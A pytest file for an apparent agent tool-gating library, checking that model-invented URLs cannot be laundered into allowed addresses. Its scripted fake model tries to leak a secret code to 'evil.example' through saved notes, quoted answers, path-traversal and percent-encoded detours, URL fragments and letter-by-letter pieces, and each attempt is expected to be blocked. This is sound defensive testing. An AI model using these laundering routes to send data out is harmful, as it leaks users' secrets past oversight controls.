"""Addresses that the model made up: no detour over a tool, an answer or another run turns one into a given one."""

from typing import Any

import pytest
from calling_kit import DONE, AnyTool

from lockgate.chat import ChatThread, Message, Role, Source, SourceOrigin, ToolTrace, TraceStatus
from lockgate.chat.addresses import NOT_GIVEN, written_by_model
from lockgate.policy import ChatRequirements, OutboundDataRestriction, ToolOutboundData
from lockgate.testing import Answer, Call, FakeProvider, answer_calls, answer_text, lockgate_for
from lockgate.tools import RequestContext, Tool, ToolContext, ToolResult

MADE_UP = "https://evil.example/?leak=4711-alpha"
LINKS = ChatRequirements(outbound=OutboundDataRestriction.ONLY_LINKS_FROM_CHAT)


def call(name: str, text: str = "") -> Answer:
    """An answer that calls a tool with one argument."""
    return answer_calls(Call(name, {"text": text}))


class Wording(AnyTool):
    """A tool that quotes the model's earlier answers in its instructions."""

    async def resolve_instructions(self, context: RequestContext) -> str:
        """Return all that the model has said."""
        return "Earlier answers: " + " ".join(
            message.text for message in context.chat.messages if message.role is Role.ASSISTANT
        )


def tools_of(notes: list[str]) -> list[Tool]:
    """Return a mailbox, a notebook, the history of the chat, and a reader that keeps to given addresses."""

    async def secret(arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        return ToolResult("The code is 4711-alpha.", requires=LINKS)

    async def save(arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        notes.append(arguments["text"])
        return ToolResult("saved")

    async def show(arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        return ToolResult({"notes": list(notes)})

    async def history(arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        said = [message.text for message in context.chat.messages if message.role is Role.ASSISTANT]
        return ToolResult({"said": said})

    async def fetch(arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        context.addresses.require(arguments["text"])
        return ToolResult("FETCHED")

    reader: dict[str, Any] = {
        "outbound_data": ToolOutboundData.MODEL_CHOSEN_ADDRESSES, "enforces_outbound_restriction": True,
    }  # fmt: skip
    return [
        AnyTool(secret, "secret"), AnyTool(save, "save"), AnyTool(show, "show"), AnyTool(history, "history"),
        AnyTool(fetch, "fetch", **reader), Wording(show, "wording"),
    ]  # fmt: skip


DETOURS = {
    "kept and shown in one run": [[call("secret"), call("save", MADE_UP), call("show"), call("fetch", MADE_UP), DONE]],
    "kept in one run, shown in the next": [
        [call("secret"), call("save", MADE_UP), DONE], [call("show"), call("fetch", MADE_UP), DONE],
    ],
    "said in an answer that a tool returns": [
        [call("secret"), answer_text(f"See {MADE_UP}.")], [call("history"), call("fetch", MADE_UP), DONE],
    ],
    "said in an answer that instructions quote": [
        [call("secret"), answer_text(f"See {MADE_UP}.")], [call("fetch", MADE_UP), DONE],
    ],
    "along a detour of a given address": [
        [call("secret"), call("save", f"https://given.example/{MADE_UP}/../../../../"), call("show"),
         call("fetch", MADE_UP), DONE],
    ],
    "along an escaped detour": [
        [call("secret"), call("save", f"https://given.example/{MADE_UP}/%2e%2e/%2E./../../"), call("show"),
         call("fetch", MADE_UP), DONE],
    ],
    "behind a given address, as its fragment": [
        [call("secret"), call("save", f"https://given.example/#{MADE_UP}"), call("show"), call("fetch", MADE_UP), DONE]
    ],
}  # fmt: skip


@pytest.mark.parametrize("detour", DETOURS)
async def test_no_detour_makes_an_address_given(detour: str) -> None:
    """In a chat that restricts where its data goes, what the model wrote stays what the model wrote."""
    script = [answer for turn in DETOURS[detour] for answer in turn]
    chat: ChatThread | None = None
    traces: list[ToolTrace] = []
    tools = tools_of([])
    async with FakeProvider(script) as fake, lockgate_for(fake, tools=tools) as gate:
        for _ in DETOURS[detour]:
            selected = [tool.definition.id for tool in tools]
            async with gate.ask(chat, "Go on: https://given.example/", selected=selected) as run:
                await run.wait()
            chat, traces = run.chat, [*traces, *run.traces]
    fetched = [trace for trace in traces if trace.tool_id == "fetch"]
    assert [(trace.status, trace.status_message) for trace in fetched] == [(TraceStatus.BLOCKED, NOT_GIVEN)]
    assert all(trace.status is TraceStatus.SUCCESS for trace in traces if trace.tool_id != "fetch")


def test_what_the_host_cites_or_a_call_names_is_made_up_all_the_same() -> None:
    """A host cites what its model writes, and a tool may name its own arguments as a source."""
    echo = "https://echo.example/?q=4711-alpha"
    trace = ToolTrace(1, "look", "Look", "1", TraceStatus.SUCCESS, arguments={"address": echo})
    sources = (Source("x", MADE_UP, SourceOrigin.LLM), Source("y", echo, SourceOrigin.TOOL))
    answer = Message(Role.ASSISTANT, f"See {MADE_UP}.", sources=sources, traces=(trace,))
    assert written_by_model(ChatThread(messages=(answer,))) == {MADE_UP, echo}


@pytest.mark.parametrize(
    "arguments",
    [{"marks": list("evil.example/4711")}, {"marks": ["e", "vil.", "e", "xampl", "e/47", "1", "1"]},
     {"evil.example/4711": 1}],
    ids=["letters", "pieces", "a name"],
)  # fmt: skip
async def test_pieces_of_an_address_are_no_gift(arguments: dict[str, Any]) -> None:
    """Letter by letter, some of them twice; or as the name of an argument that the tool does not know."""

    async def join(given: dict[str, Any], context: ToolContext) -> ToolResult:
        return ToolResult("https://" + "".join(given.get("marks") or next(iter(given))))

    script = [answer_calls(Call("join", arguments)), DONE]
    tool = AnyTool(join, "join")
    chat = ChatThread(requirements=LINKS)
    async with (
        FakeProvider(script) as fake, lockgate_for(fake, tools=[tool]) as gate,
        gate.ask(chat, "Join.", selected=["join"]) as run,
    ):  # fmt: skip
        await run.wait()
    assert run.traces[0].result == "https://evil.example/4711"
    assert run.chat.tool_addresses == frozenset()


def test_what_a_turn_rests_on_was_not_made_up_by_it() -> None:
    """An answer cites what a tool brought. After a restart the same hit of the same search counts as given again."""
    page = "https://wiki.example/page"
    trace = ToolTrace(1, "search", "Search", "1", TraceStatus.SUCCESS, arguments={"query": "https://guess.example/x"})
    answer = Message(
        Role.ASSISTANT, f"See {page} and {MADE_UP}.", sources=(Source("Page", f"{page}#top"),), traces=(trace,)
    )
    chat = ChatThread(messages=(Message(Role.USER, "Look: https://user.example/"), answer))
    assert written_by_model(chat) == {MADE_UP, "https://guess.example/x"}


async def test_instructions_that_a_tool_registered_give_their_addresses() -> None:
    """The model repeats one in an answer; that does not take it away."""
    handbook = "https://handbook.example/tools"

    async def fetch(arguments: dict[str, Any], context: ToolContext) -> ToolResult:
        context.addresses.require(arguments["text"])
        return ToolResult("FETCHED")

    reader = AnyTool(fetch, "fetch", instructions=f"Read {handbook} first.")
    script = [answer_text(f"It is at {handbook}."), call("fetch", handbook), DONE]
    async with FakeProvider(script) as fake, lockgate_for(fake, tools=[reader]) as gate:
        async with gate.ask(ChatThread(requirements=LINKS), "Where?", selected=["fetch"]) as run:
            await run.wait()
        async with gate.ask(run.chat, "Read it.") as run:
            await run.wait()
    assert [trace.status for trace in run.traces] == [TraceStatus.SUCCESS]
